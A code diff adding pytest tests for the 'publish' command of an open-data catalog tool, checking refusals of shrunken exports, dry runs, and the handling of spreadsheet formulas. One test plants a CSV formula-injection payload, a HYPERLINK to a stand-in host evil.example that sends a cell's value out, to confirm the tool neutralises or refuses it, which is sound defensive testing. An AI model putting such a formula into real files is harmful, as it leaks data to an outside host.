@@ -11,6 +11,8 @@ import hashlib
 import io
 import os
 import shutil
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -196,3 +198,89 @@ def test_nan_and_infinity_are_refused_in_a_number_field(project: Path) -> None:
     code, out = run(project, "validate", "bredband", may_write=READS)
     assert code == 1 and "NaN and infinities are not allowed" in out and '"nonFinite": true' in out
     assert "-Infinity" in out
+
+
+# --- publish (local catalog, under the Prefect test server) --------------------------------------
+
+PUBLISH_WRITES = ("build", "archive")  # the catalog, the work folder, the raw archive
+
+
+def cli(project: Path, *args: str, may_write: tuple[str, ...] = PUBLISH_WRITES) -> tuple[int, str]:
+    """The real command in its own process (as a person runs it), on the test's Prefect server."""
+    from prefect.settings import get_current_settings
+
+    env = {
+        **os.environ,
+        **ENV,
+        "PREFECT_API_URL": str(get_current_settings().api.url),
+        "OPENDATA_HOME": str(project),
+    }
+    before = tree(project, *may_write)
+    done = subprocess.run(
+        [sys.executable, "-m", "opendata", *args], env=env, capture_output=True, text=True, timeout=300, check=False
+    )
+    assert tree(project, *may_write) == before, "the command changed files outside " + ", ".join(may_write)
+    return done.returncode, done.stdout + done.stderr
+
+
+def catalog_of(project: Path) -> dict[str, str]:
+    return tree(project / "build/catalog") if (project / "build/catalog").exists() else {}
+
+
+@pytest.mark.usefixtures("prefect_harness")
+def test_header_only_export_is_refused_with_both_counts_and_the_fix(project: Path) -> None:
+    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
+    assert code == 0, out
+    published = catalog_of(project)
+    source = strategi_source(project)
+    source.write_bytes(source.read_bytes().split(b"\n", 1)[0] + b"\n")
+    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
+    assert code == 1
+    flat = " ".join(out.split())
+    assert "the new version has 0 rows (the published version has 37)" in flat
+    assert "--allow-shrink" in flat and "expect.min_rows" in flat
+    assert "Traceback" not in out, out  # the sentence, not Prefect's traceback (that needs -v)
+    assert catalog_of(project) == published
+    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local", "--allow-shrink")
+    assert code == 0, out
+    assert b"\n" not in (project / "build/catalog/strategi-uppfoljning/data.csv").read_bytes().strip()
+
+
+@pytest.mark.usefixtures("prefect_harness")
+def test_a_large_drop_is_refused_unless_the_manifest_allows_it(project: Path) -> None:
+    assert cli(project, "publish", "strategi-uppfoljning", "--target", "local")[0] == 0
+    published = catalog_of(project)
+    source = strategi_source(project)
+    source.write_bytes(b"\n".join(source.read_bytes().split(b"\n")[:11]) + b"\n")  # 10 of 37 rows
+    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
+    flat = " ".join(out.split())
+    assert code == 1 and "has 10 rows where 37 are published, a drop of 73% (expect.max_drop allows 20%)" in flat
+    assert catalog_of(project) == published
+    edit_manifest(project, "strategi-uppfoljning", expect={"max_drop": 0.8})
+    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
+    assert code == 0, out
+
+
+@pytest.mark.usefixtures("prefect_harness")
+def test_formulas_are_neutralised_by_default_and_refused_on_request(project: Path) -> None:
+    source = strategi_source(project)
+    text = source.read_bytes()
+    source.write_bytes(text.replace(b"ej bed\xc3\xb6md", b'=HYPERLINK("http://evil.example/?"&A1;"Klicka")', 1))
+    code, out = run(project, "validate", "strategi-uppfoljning", may_write=READS)
+    assert code == 0 and "warning" in out and "starts like a spreadsheet formula" in out
+    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
+    assert code == 0, out
+    csv = (project / "build/catalog/strategi-uppfoljning/data.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in csv and ",=HYPERLINK(" not in csv and '"=HYPERLINK(' not in csv
+    published = catalog_of(project)
+    edit_manifest(project, "strategi-uppfoljning", formulas="refuse")
+    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
+    assert code == 1 and "formula" in out and "Traceback" not in out
+    assert catalog_of(project) == published
+
+
+@pytest.mark.usefixtures("prefect_harness")
+def test_dry_run_writes_nothing_in_the_project(project: Path) -> None:
+    code, out = cli(project, "publish", "--all", "--target", "local", "--dry-run", may_write=())
+    assert code == 0, out
+    assert not (project / "build").exists() and not (project / "archive").exists()
